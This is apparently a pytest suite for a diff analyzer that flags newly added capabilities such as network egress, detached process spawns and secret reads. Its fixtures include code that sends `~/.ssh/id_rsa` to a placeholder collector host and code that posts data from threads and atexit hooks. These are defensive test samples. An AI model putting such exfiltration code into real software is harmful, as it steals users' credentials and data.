"""The capability model: what a change adds (delta) in every format, refactors that add nothing,
`allowed-hosts`, propagation across calls, threads and files, and its bounds."""

from __future__ import annotations

import json
import time
from pathlib import Path

import libcst
import pytest
from click.testing import CliRunner

from analyzer import config
from analyzer.cli import main
from analyzer.engines.cst.capabilities import delta, facts, graph
from analyzer.engines.cst.capabilities.summary import summarise
from analyzer.sources import Project
from tests.gitrepo import git

BEFORE = '''import json


def ship(data):
    return json.dumps(data)


def total(xs):
    return sum(x + 1 for x in xs)
'''

ADDS_EGRESS = '''import json
import subprocess
import threading

import requests


def _send(body):
    requests.post("https://collector.example.xyz/v1/ingest", data=body, timeout=3)


def ship(data):
    threading.Thread(target=_send, args=(json.dumps(data),)).start()
    subprocess.Popen(["/usr/local/bin/agent"], start_new_session=True)


def total(xs):
    return sum(x + 1 for x in xs)
'''

HAS_EGRESS = '''import requests


def ship(data):
    requests.post("https://collector.example.xyz/v1/ingest", json=data, timeout=3)
    with open("/tmp/last", "w") as fh:
        fh.write("ok")
'''

# The same powers after renaming, extracting a helper into another file and reformatting.
REFACTORED = {
    "metrics.py": '''from transport import post_json


def ship_metrics(payload):
    post_json(payload)
''',
    "transport.py": '''import requests

ENDPOINT = "https://collector.example.xyz/v1/ingest"


def post_json(body):
    requests.post(
        "https://collector.example.xyz/v1/ingest",
        json=body,
        timeout=3,
    )
    with open("/tmp/last", "w") as handle:
        handle.write("ok")
''',
}


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    git(tmp_path, "init", "-q", "-b", "main")
    (tmp_path / "pyproject.toml").write_text("[tool.diffsentry]\n")
    (tmp_path / "metrics.py").write_text(BEFORE)
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "-qm", "base")
    return tmp_path


def diff_run(repo: Path, *args: str, env: dict | None = None):
    return CliRunner().invoke(main, ["diff", "--base", "HEAD", "--root", str(repo), "--no-cache", *args], env=env,
                              catch_exceptions=False)


def test_delta_of_a_change_that_adds_egress_in_every_format(repo, tmp_path_factory):
    (repo / "metrics.py").write_text(ADDS_EGRESS)
    text = diff_run(repo).output
    head = text.split("metrics.py\n")[0]
    assert "New capabilities in this change" in head  # a section before the findings
    assert "POST to collector.example.xyz in metrics.py:_send (line 9)" in head
    assert "spawns a detached process (/usr/local/bin/agent) in metrics.py:ship (line 14)" in head

    document = json.loads(diff_run(repo, "-f", "json").stdout)
    kinds = {(c["kind"], c["path"], c["line"], c["detail"]) for c in document["capabilities"]}
    assert ("network-egress", "metrics.py", 9, "POST to collector.example.xyz") in kinds
    assert ("process-spawn", "metrics.py", 14, "spawns a detached process (/usr/local/bin/agent)") in kinds

    sarif = json.loads(diff_run(repo, "-f", "sarif").output)
    assert sarif["runs"][0]["properties"]["capabilities"] == document["capabilities"]

    summary = tmp_path_factory.mktemp("gh") / "summary.md"
    diff_run(repo, "-f", "github", env={"GITHUB_STEP_SUMMARY": str(summary)})
    markdown = summary.read_text()
    assert "### New capabilities in this change" in markdown
    assert "POST to collector.example.xyz in metrics.py:_send (line 9)" in markdown


def test_a_pure_refactor_adds_no_capability(repo, tmp_path_factory):
    (repo / "metrics.py").write_text(HAS_EGRESS)
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "egress exists before")
    for name, text in REFACTORED.items():
        (repo / name).write_text(text)
    document = json.loads(diff_run(repo, "-f", "json").stdout)
    assert document["capabilities"] == []
    assert "New capabilities" not in diff_run(repo).output
    assert json.loads(diff_run(repo, "-f", "sarif").stdout)["runs"][0]["properties"]["capabilities"] == []
    summary = tmp_path_factory.mktemp("gh") / "summary.md"
    diff_run(repo, "-f", "github", env={"GITHUB_STEP_SUMMARY": str(summary)})
    assert summary.read_text().startswith("## diffsentry") and "New capabilities" not in summary.read_text()


def test_scan_mode_has_no_delta(repo):
    (repo / "metrics.py").write_text(ADDS_EGRESS)
    result = CliRunner().invoke(main, ["scan", str(repo), "--no-cache", "-f", "json"], catch_exceptions=False)
    assert json.loads(result.output)["capabilities"] == []


def test_allowed_hosts_are_not_new(repo):
    (repo / "pyproject.toml").write_text('[tool.diffsentry]\nallowed-hosts = ["example.xyz"]\n')
    git(repo, "commit", "-qam", "expected telemetry host")
    (repo / "metrics.py").write_text(ADDS_EGRESS)
    kinds = {c["kind"] for c in json.loads(diff_run(repo, "-f", "json").stdout)["capabilities"]}
    assert "network-egress" not in kinds and "process-spawn" in kinds


@pytest.mark.parametrize("value", ['"https://x.example.com/"', '["x.example.com:443"]', "[1]", '["*.example.com"]'])
def test_bad_allowed_hosts_name_the_key(tmp_path, value):
    with pytest.raises(config.ConfigError, match=r"allowed-hosts"):
        config.parse(f"[tool.diffsentry]\nallowed-hosts = {value}\n", tmp_path / "pyproject.toml")


def test_delta_compares_kinds_and_details_not_lines():
    before = {"a.py": HAS_EGRESS}
    after = {"a.py": "\n\n" + HAS_EGRESS.replace("requests.post(", "requests.post(  # moved\n    ")}
    assert delta.compute(before, after) == ()
    added = delta.compute({"a.py": None}, {"a.py": HAS_EGRESS})
    assert [(c.kind, c.function) for c in added] == [("network-egress", "ship")]


HELPER = '''import requests

HOST = "https://collector.example.xyz/v1"


def ship(data):
    requests.post(HOST, data=data, timeout=3)


def backup():
    return "nothing to do"
'''
# The change adds only a call to the existing network helper, with SSH keys as its argument.
CALLS_HELPER = HELPER.replace('    return "nothing to do"', "    ship(open('~/.ssh/id_rsa').read())")


def test_a_new_call_to_an_existing_network_helper_is_new_egress_of_the_caller():
    added = delta.compute({"app.py": HELPER}, {"app.py": CALLS_HELPER})
    assert [(c.kind, c.function, c.line, c.detail, c.via) for c in added] == [
        ("network-egress", "backup", 11, "POST to collector.example.xyz", "ship"),
        ("secret-read", "backup", 11, "reads SSH keys", ""),
    ]
    assert added[0].sentence == "POST to collector.example.xyz (through `ship`) in app.py:backup (line 11)"
    assert added[0].as_dict()["via"] == "ship"
    # a new function counts too when the power comes from a function that existed before
    nightly = HELPER + "\n\ndef nightly():\n    ship(b'x')\n"
    assert [(c.function, c.via) for c in delta.compute({"app.py": HELPER}, {"app.py": nightly})] == [("nightly", "ship")]


def test_a_new_call_to_an_existing_helper_in_a_diff_fires_a_combination_and_lists_the_delta(repo):
    (repo / "app.py").write_text(HELPER)
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "helper exists")
    (repo / "app.py").write_text(CALLS_HELPER)
    document = json.loads(diff_run(repo, "-f", "json").stdout)
    assert {(c["kind"], c["function"], c.get("via")) for c in document["capabilities"]} == {
        ("network-egress", "backup", "ship"), ("secret-read", "backup", None)}
    assert [(f["rule_id"], f["start_line"]) for f in document["findings"] if f["rule_id"] == "DS125"] == [
        ("DS125", 11)]


@pytest.mark.parametrize("after", [
    HELPER.replace("def ship(", "def send(").replace("ship(", "send("),  # renamed
    HELPER.replace("    requests.post(HOST, data=data, timeout=3)", "    _post(data)\n\n\ndef _post(body):\n"
                   "    requests.post(HOST, data=body, timeout=3)"),  # extracted into a new helper
    HELPER.replace("    return \"nothing to do\"", "    requests.post(HOST, data=b'', timeout=3)").replace(
        "def ship(data):\n    requests.post(HOST, data=data, timeout=3)", "def ship(data):\n    backup()"),  # moved
])
def test_moving_code_between_functions_with_the_same_reachable_powers_adds_nothing(after):
    before = HELPER.replace('    return "nothing to do"', "    ship(b'')")
    after = after.replace('    return "nothing to do"', "    ship(b'')") if "nothing" in after else after
    assert delta.compute({"app.py": before}, {"app.py": after}) == ()


def _reading_sides(monkeypatch) -> list[str]:
    """The texts the delta parses and summarises itself (a list that fills as it does)."""
    read: list[str] = []
    summaries = delta._summaries

    def recorded(path: str, text: str, *like):  # type: ignore[no-untyped-def]
        read.append(text)
        return summaries(path, text, *like)

    monkeypatch.setattr(delta, "_summaries", recorded)
    return read


def test_the_side_before_the_change_is_read_only_when_a_power_is_left_after_it(monkeypatch):
    read = _reading_sides(monkeypatch)
    # a refactor of code without powers: nothing can be new, the old text is not parsed
    renamed = BEFORE.replace("total", "sum_all")
    assert delta.compute({"metrics.py": BEFORE}, {"metrics.py": renamed}) == ()
    assert read == [renamed]
    # a change that removes the only power leaves none: nothing to compare either
    read.clear()
    assert delta.compute({"a.py": HAS_EGRESS}, {"a.py": BEFORE}) == ()
    assert read == [BEFORE]
    # egress to an allowed host only: not listed, so not compared
    read.clear()
    assert delta.compute({"a.py": BEFORE}, {"a.py": HAS_EGRESS}, ["example.xyz"]) == ()
    assert read == [HAS_EGRESS]
    # a power after the change: both sides are read, a gained power is listed...
    read.clear()
    assert [(c.kind, c.function) for c in delta.compute({"a.py": BEFORE}, {"a.py": HAS_EGRESS})] == [
        ("network-egress", "ship")]
    assert read == [HAS_EGRESS, BEFORE]
    # ...and one that was there before is not (a pure refactor across files still adds nothing)
    assert delta.compute({"metrics.py": ADDS_EGRESS, "transport.py": None}, REFACTORED) == ()
    # an old power newly reached through another changed file: listed at the caller
    read.clear()
    caller = "from transport import post_json\n\n\ndef ship_metrics(payload):\n    post_json(payload)\n"
    idle = caller.replace("    post_json(payload)", "    return payload")
    transport = REFACTORED["transport.py"]
    gained = delta.compute({"metrics.py": idle, "transport.py": transport},
                           {"metrics.py": caller, "transport.py": transport})
    assert [(c.kind, c.function, c.via) for c in gained] == [("network-egress", "ship_metrics", "post_json")]
    assert sorted(read) == sorted([caller, transport, idle, transport])


def test_a_diff_reuses_the_summaries_the_engine_made_of_the_changed_files(repo, monkeypatch):
    read = _reading_sides(monkeypatch)
    (repo / "metrics.py").write_text(ADDS_EGRESS)
    document = json.loads(diff_run(repo, "-f", "json").stdout)
    assert {(c["kind"], c["function"]) for c in document["capabilities"]} >= {
        ("network-egress", "_send"), ("process-spawn", "ship")}
    assert read == [BEFORE]  # the text after the change was summarised once, by the engine
    # without the combination rules the engine makes no summaries: the delta makes its own
    read.clear()
    document = json.loads(diff_run(repo, "-f", "json", "--ignore", "DS114,DS125,DS163,DS183,DS504,DS531").stdout)
    assert {(c["kind"], c["function"]) for c in document["capabilities"]} >= {
        ("network-egress", "_send"), ("process-spawn", "ship")}
    assert sorted(read) == sorted([ADDS_EGRESS, BEFORE])


SHAPES = '''import os, os.path as osp
from . import sibling
from pkg.sub import (a as b, c)
from x import *
counter = 0
token: str = os.environ.get("T")


@decorate(lambda v: v + 1)
async def handler(req, *, key=None):
    global counter
    counter += 1
    with open(req) as fh, lock:
        data = fh.read()
    if (n := len(data)) > 3 and not osp.exists("/tmp/x"):
        return [y async for y in req if y]
    match data:
        case {"k": [1, *rest]}:
            pass
    class Inner(Base, metaclass=Meta):
        field = 1

        def method(self):
            field = 2
            return f"{self!r:>{field}}" + (lambda: field)()
    data = {**other, "x": (1, 2)}[0:1]
    return data
'''


def test_the_models_walk_agrees_with_the_rule_helpers():
    """`tree` reads the same nodes, in the same order, and the same names as `_support` and
    `logic_bombs` (without whitespace and punctuation): the summaries come out identical."""
    from analyzer.engines.cst import walk
    from analyzer.engines.cst.capabilities import tree
    from analyzer.engines.cst.rules import _support, behaviour, logic_bombs

    sources = [SHAPES, ADDS_EGRESS, *REFACTORED.values(), Path(behaviour.__file__).read_text(encoding="utf-8"),
               Path(tree.__file__).read_text(encoding="utf-8")]
    sources += [case for rule in behaviour._CombinationRule.__subclasses__() for case in (*rule.VALID, *rule.INVALID)]
    for text in sources:
        module = libcst.parse_module(text)
        expected_aliases = list(_support.import_aliases(module).items())  # and _support's caches are this module's
        roots = [module, *module.body, *(n for n in tree.walk(module) if isinstance(n, libcst.FunctionDef))]
        for root in roots:
            for into in (True, False):
                expected = [n for n in _support._walk(root, into) if n is root or not walk.is_token(type(n))]
                assert [id(n) for n in tree.walk(root, into)] == [id(n) for n in expected]
            assert tree.single_bindings(root) == _support.single_bindings(root)
        aliases, bindings, counters = tree.module_names(module)
        assert list(aliases.items()) == expected_aliases
        assert bindings == _support.single_bindings(module)
        assert counters == logic_bombs._global_counters(module)
    assert tree.module_names(libcst.parse_module(SHAPES))[2] == {"counter"}


def _rendered(summary) -> list:  # type: ignore[no-untyped-def]
    """What a summary says, with nodes as their code (trees made apart have different nodes)."""
    code = libcst.Module(body=[]).code_for_node
    out: list = [list(summary.aliases.items()), summary.classes, summary.imports]
    for scope in summary.scopes.values():
        out.append((scope.qualname, scope.params, scope.context, scope.klass, scope.reads_files, sorted(scope.net),
                    [(fact.kind, fact.detail, fact.grade, fact.host, sorted(fact.tokens), code(fact.node), guards)
                     for fact, guards in scope.facts],
                    [(edge.key, edge.verb, edge.guard, code(edge.node)) for edge in scope.edges],
                    [(what, code(arg), code(call)) for what, arg, call in scope.sinks],
                    [(name, code(value)) for name, value in scope.assigns], [code(r) for r in scope.returns],
                    [(name, code(value)) for name, value in scope.handles.items()], [code(w) for w in scope.walks]))
    return out


SPLICED = '''"""A module."""
import os, subprocess
HOST = "http://203.0.113.7"  # a comment


@atexit.register
def ship(data):
    requests.post(HOST, data=data)
a = 1; b = os.environ.copy()
x = [1,
     2]
if os.environ.get("CI"): subprocess.run(["make"])
\x0c
class Agent(Base):
    """\u2028 held in a string, \x0c too"""
    def run(self):
        subprocess.Popen(["/usr/local/bin/agent"], start_new_session=True)
'''


@pytest.mark.parametrize("before", [
    SPLICED.replace("a = 1; b", "a = 2; b"),  # the `a; b` line changed
    SPLICED.replace("@atexit.register\n", ""),  # a decorator removed
    SPLICED.replace('HOST = "http', 'HOST = "https'),  # a constant the calls render
    SPLICED.replace("import os, subprocess", "import os, subprocess as requests"),  # an import
    SPLICED.replace("x = [1,", 'x = """\n[1,').replace("     2]\n", '     2]\n"""\n'),  # lines that were a string
    SPLICED.replace("\n\n\n@atexit", '\n\n_ = """\n@atexit').replace("data=data)\n", 'data=data)\n"""\n'),
    SPLICED.replace("\n", "\r\n"),  # every line ending differs
    SPLICED.replace("x = [1,", "x = 0 + \\\n[1,"),  # a backslash before a statement
    SPLICED.replace("    def run", "    def _run"),
    SPLICED + "def helper(:\n",  # not Python: adds nothing
    "",
])
def test_the_tree_before_a_change_reuses_unchanged_statements_and_summarises_the_same(before):
    from analyzer.engines.cst.capabilities import splice

    for old, new in ((before, SPLICED), (SPLICED, before)):
        full = parse_module_or_none(old)
        new_tree = parse_module_or_none(new)
        if new_tree is None:
            continue
        spliced = splice.tree_before("m.py", old, new, new_tree)
        assert (spliced is None) == (full is None)
        if full is not None:
            assert _rendered(summarise("m.py", spliced)) == _rendered(summarise("m.py", full))


def parse_module_or_none(text: str) -> libcst.Module | None:
    from analyzer import parse

    return parse.parse_source("m.py", text).module


def test_the_tree_before_a_change_takes_the_unchanged_statements_from_the_tree_after_it():
    from analyzer.engines.cst.capabilities import splice

    after = SPLICED + "DEBUG_TOKEN = __import__('os').environ.get('DEBUG_TOKEN', '')\n"
    after_tree = parse_module_or_none(after)
    spliced = splice.tree_before("m.py", SPLICED, after, after_tree)
    assert len(spliced.body) == len(after_tree.body) - 1
    assert all(old is new for old, new in zip(spliced.body, after_tree.body))  # nothing parsed again
    changed = SPLICED.replace("a = 1; b", "a = 2; b")
    spliced = splice.tree_before("m.py", changed, after, after_tree)
    assert [old is new for old, new in zip(spliced.body, after_tree.body)] == [
        True, True, True, True, False, True, True, True]


def _index(files: dict[str, str]) -> graph.Index:
    project = Project(Path("/nonexistent"), files)
    index = graph.Index(project)
    for path in files:
        index.summary(path)
    return index


def test_propagation_through_self_threads_executors_hooks_and_files():
    files = {
        "pkg/__init__.py": "",
        "pkg/net.py": "import requests\ndef post(x):\n    requests.post('http://203.0.113.7/c', data=x)\n",
        "pkg/app.py": (
            "import atexit, logging, threading\nfrom concurrent.futures import ThreadPoolExecutor\n"
            "from .net import post\n"
            "class H(logging.Handler):\n    def emit(self, record):\n        self._go(record)\n"
            "    def _go(self, r):\n        threading.Thread(target=post, args=(r,)).start()\n"
            "def via_executor():\n    ThreadPoolExecutor().submit(post, 1)\n"
            "def via_atexit():\n    atexit.register(post)\n"
            "def via_class():\n    logging.getLogger().addHandler(H())\n"
        ),
    }
    index = _index(files)
    app = index.summary("pkg/app.py")
    for name in ("H.emit", "via_executor", "via_atexit", "via_class"):
        reached = index.reach(app.scopes[name], {facts.EGRESS})
        assert [r.fact.host for r in reached] == ["203.0.113.7"], name
        assert reached[0].scope.path == "pkg/net.py"


def test_reach_is_bounded_on_a_large_generated_module():
    n = 3000
    body = "import requests\n" + "".join(
        f"def f{i}():\n    f{(i + 1) % n}()\n    f{(i * 7 + 3) % n}()\n" for i in range(n)
    ) + "def f_end():\n    requests.post('http://203.0.113.7/x')\n"
    module = libcst.parse_module(body)
    index = graph.Index(None)
    summary = summarise("gen.py", module)
    index.add(summary)
    start = time.perf_counter()
    for name in ("f0", "f1", "f2999"):
        reached = index.reach(summary.scopes[name], {facts.EGRESS})
        assert all(len(r.hops) <= graph.MAX_DEPTH for r in reached)
    assert time.perf_counter() - start < 5  # three bounded walks, not a walk of 3000 functions each
    assert len(index._resolved) <= 3 * graph.MAX_SCOPES
